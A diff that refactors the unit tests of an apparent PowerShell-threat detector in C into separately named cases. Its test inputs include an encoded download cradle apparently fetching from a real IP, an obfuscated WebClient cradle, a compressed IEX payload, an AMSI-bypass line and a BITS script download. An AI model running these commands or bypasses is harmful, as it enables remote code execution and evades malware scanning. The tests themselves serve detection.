@@ -21,8 +21,8 @@ static const char ref_cmd[] =
     "AG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA3ADYALgA1ADMALgAxADEA"
     "OAAuADEAMwAxAC8AbABvAGcAbwAuAHAAbgBnACcAKQA=";
 
-static void
-test_base64(void)
+/* Base64 with padding, with whitespace, invalid, over the cap. */
+UNIT_CASE(base64)
 {
 	struct ct_buf b = CT_BUF_INIT;
 
@@ -38,8 +38,7 @@ test_base64(void)
 	ct_buf_release(&b);
 }
 
-static void
-test_decode(void)
+UNIT_CASE(decode_command_line)
 {
 	struct ct_buf b = CT_BUF_INIT;
 
@@ -73,8 +72,8 @@ test_decode(void)
 	ct_buf_release(&b);
 }
 
-static void
-test_score(void)
+/* The reference case's stage-1 command: every tag it earns, severity 3. */
+UNIT_CASE(score_reference)
 {
 	struct ct_pwsh_score s;
 
@@ -86,8 +85,13 @@ test_score(void)
 	CHECK(s.tags & CT_PS_CRADLE);	/* seen in the decoded text */
 	CHECK(s.tags & CT_PS_IEX);
 	CHECK_INT(s.severity, 3);
+}
 
-	/* Benign administration stays info. */
+/* Benign administration stays info. */
+UNIT_CASE(score_benign)
+{
+	struct ct_pwsh_score s;
+
 	ct_pwsh_assess("powershell.exe -NoProfile -Command \"Get-Service | "
 	    "Where-Object Status -eq Running\"", NULL, &s);
 	CHECK_INT(s.severity, 0);
@@ -101,6 +105,11 @@ test_score(void)
 	/* Words containing "iex" are not Invoke-Expression. */
 	ct_pwsh_assess(NULL, "$diexample = 1; $x.piexe", &s);
 	CHECK(!(s.tags & CT_PS_IEX));
+}
+
+UNIT_CASE(score_obfuscated)
+{
+	struct ct_pwsh_score s;
 
 	/* Obfuscation: char codes with -join, IEX from $PSHome. */
 	ct_pwsh_assess("powershell.exe -exec bypass -noni -nop -w 1 -C & "
@@ -120,7 +129,13 @@ test_score(void)
 	    "neT.WEbcLiENt", &s);
 	CHECK(s.tags & CT_PS_OBFUSCATED);
 	CHECK(s.tags & CT_PS_CRADLE);
-	/* Compressed base64 payload and AMSI bypass. */
+}
+
+/* Compressed base64 payload and AMSI bypass. */
+UNIT_CASE(score_compressed_amsi)
+{
+	struct ct_pwsh_score s;
+
 	ct_pwsh_assess(NULL, "IEX(New-Object IO.StreamReader(New-Object "
 	    "IO.Compression.GzipStream([IO.MemoryStream][Convert]::"
 	    "FromBase64String('H4sI'),[IO.Compression.CompressionMode]::"
@@ -131,16 +146,26 @@ test_score(void)
 	    "Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,"
 	    "Static').SetValue($null,$true)", &s);
 	CHECK(s.tags & CT_PS_AMSI);
-	/* Start-BitsTransfer is a cradle. */
+}
+
+/* Start-BitsTransfer is a cradle. */
+UNIT_CASE(score_bits)
+{
+	struct ct_pwsh_score s;
+
 	ct_pwsh_assess(NULL, "Start-BitsTransfer -Priority foreground -Source "
 	    "https://example.org/a.ps1 -Destination C:\\Users\\bits.ps1", &s);
 	CHECK(s.tags & CT_PS_CRADLE);
+}
+
+/* Tags by number; one out of range is "?". */
+UNIT_CASE(tag_names)
+{
 	CHECK_STR(ct_pwsh_tag_name(0), "encoded command");
 	CHECK_STR(ct_pwsh_tag_name(99), "?");
 }
 
-static void
-test_payloads(void)
+UNIT_CASE(payloads)
 {
 	struct ct_buf b = CT_BUF_INIT;
 	struct ct_pwsh_score s;
@@ -172,8 +197,8 @@ test_payloads(void)
 	ct_buf_release(&b);
 }
 
-static void
-test_paths(void)
+/* Windows, NT device, \\??\\ and volume-GUID paths to one lower-case form. */
+UNIT_CASE(normpath)
 {
 	struct ct_buf b = CT_BUF_INIT;
 
@@ -191,27 +216,60 @@ test_paths(void)
 	ct_buf_reset(&b);
 	an_normpath(&b, "\\VOLUME{01d9a1b2c3d4e5f6-1a2b3c4d}\\USERS\\BOB\\DROP.EXE");
 	CHECK_STR(b.buf, "/users/bob/drop.exe");
-	ct_buf_reset(&b);
+	ct_buf_release(&b);
+}
+
+UNIT_CASE(file_basename)
+{
+	struct ct_buf b = CT_BUF_INIT;
+
 	an_basename(&b, "C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe");
 	CHECK_STR(b.buf, "qeupdate.exe");
+	ct_buf_release(&b);
+}
+
+/* Folders a user can write to, on normalised paths. */
+UNIT_CASE(user_writable)
+{
 	CHECK(an_user_writable("/users/jdoe/appdata/local/temp/x.exe"));
 	CHECK(an_user_writable("/windows/temp/update.bat"));
 	CHECK(!an_user_writable("/program files (x86)/quilledit/qeupdate.exe"));
 	CHECK(!an_user_writable("/windows/system32/cmd.exe"));
+}
+
+/* Case-insensitive search, as for 'ping -n'. */
+UNIT_CASE(find_nocase)
+{
 	CHECK(an_strcasestr("ping -N 3", "-n") != NULL);
 	CHECK(an_strcasestr("abc", "x") == NULL);
-	ct_buf_reset(&b);
+}
+
+/* Times in the narrative's words, to the second. */
+UNIT_CASE(time_words)
+{
+	struct ct_buf b = CT_BUF_INIT;
+
 	an_time_words(&b, 133548121356000000LL);
 	CHECK_STR(b.buf, "2024-03-13 14:02:15 UTC");
-	CHECK(ct_pwsh_is_host("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE"));
-	CHECK(!ct_pwsh_is_host("C:\\Windows\\System32\\cmd.exe"));
-	CHECK_INT(ct_severity_rank("high"), 3);
-	CHECK_INT(ct_severity_rank("bogus"), -1);
 	ct_buf_release(&b);
 }
 
-static void
-test_fuzz_replay(void)
+/* PowerShell hosts by image path, in any case. */
+UNIT_CASE(pwsh_host)
+{
+	CHECK(ct_pwsh_is_host("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE"));
+	CHECK(!ct_pwsh_is_host("C:\\Windows\\System32\\cmd.exe"));
+}
+
+/* Severity names to ranks; an unknown name is -1. */
+UNIT_CASE(severity_rank)
+{
+	CHECK_INT(ct_severity_rank("high"), 3);
+	CHECK_INT(ct_severity_rank("bogus"), -1);
+}
+
+/* Crafted inputs through the fuzz target's entry point (fuzz-pwsh.c). */
+UNIT_CASE(fuzz_replay)
 {
 	static const char *const inputs[] = {
 		"", "powershell -e", "powershell -e \"", "powershell -enc =",
@@ -225,14 +283,29 @@ test_fuzz_replay(void)
 		    strlen(inputs[i])), 0);
 }
 
+static const struct unit_case cases[] = {
+	{ "base64", base64 },
+	{ "decode_command_line", decode_command_line },
+	{ "score_reference", score_reference },
+	{ "score_benign", score_benign },
+	{ "score_obfuscated", score_obfuscated },
+	{ "score_compressed_amsi", score_compressed_amsi },
+	{ "score_bits", score_bits },
+	{ "tag_names", tag_names },
+	{ "normpath", normpath },
+	{ "file_basename", file_basename },
+	{ "user_writable", user_writable },
+	{ "find_nocase", find_nocase },
+	{ "time_words", time_words },
+	{ "pwsh_host", pwsh_host },
+	{ "severity_rank", severity_rank },
+	{ "payloads", payloads },
+	{ "fuzz_replay", fuzz_replay },
+	{ NULL, NULL }
+};
+
 int
-main(void)
+main(int argc, char **argv)
 {
-	test_base64();
-	test_decode();
-	test_score();
-	test_paths();
-	test_payloads();
-	test_fuzz_replay();
-	return unit_done();
+	return unit_run(cases, argc, argv);
 }
